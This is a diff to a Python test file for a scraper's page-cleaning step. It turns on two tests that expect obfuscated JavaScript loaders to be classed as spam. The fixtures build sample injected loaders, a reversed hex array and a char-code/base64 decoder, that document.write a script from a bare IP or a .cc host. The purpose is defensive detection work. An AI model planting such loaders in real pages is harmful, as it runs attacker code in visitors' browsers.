@@ -3,14 +3,12 @@ array of hex escapes, or as character codes fed through base64 — loads code th
 name: only running it shows the host (v39b rc39b-003: the _0xaae8 line appended to a site's every JS
 file writes a loader from a bare IP; v24 sv24-001/-018: a char-code/base64 decoder writes one from a
 .cc or digit-named host). The sandbox runs the decoder; inserted.inserted_for_visitor reads the tag it
-wrote. Measured, not wired (variant 7108231: one split besides v39 gains; inserted.py's note).
+wrote (mwb30's variant 7108231, wired in session 31 with v39 as dev; inserted.py's note).
 A loader written in plain sight (a counter's or analytics' snippet, unescape()d or split with
 "+") names its host in a constant: it stays clean."""
 from __future__ import annotations
 
 import base64
-
-import pytest
 
 from scraper.clean import clean_page
 
@@ -46,7 +44,6 @@ def _char_code_base64_loader(address: str) -> str:
     return f"function Qz(e){{return atob(String.fromCharCode.apply(null,e))}}document.write(Qz([{codes}]));"
 
 
-@pytest.mark.xfail(strict=True, reason="mwb30 variant 7108231 measured, not wired: only v24 gains besides v39 (inserted.py's note)")
 def test_a_reversed_hex_array_loader_is_spam():
     head = f"<script>{_reversed_hex_loader('http://45.77.140.21/jquery.js')}</script>"
     a = clean_page(_page(head=head), url=URL)
@@ -55,7 +52,6 @@ def test_a_reversed_hex_array_loader_is_spam():
     assert "乡村振兴" in a.text
 
 
-@pytest.mark.xfail(strict=True, reason="mwb30 variant 7108231 measured, not wired: only v24 gains besides v39 (inserted.py's note)")
 def test_a_char_code_base64_loader_is_spam():
     tail = f"<script>{_char_code_base64_loader('https://kx-ge77.cc/c.js')}</script>"
     a = clean_page(_page(tail=tail), url=URL)
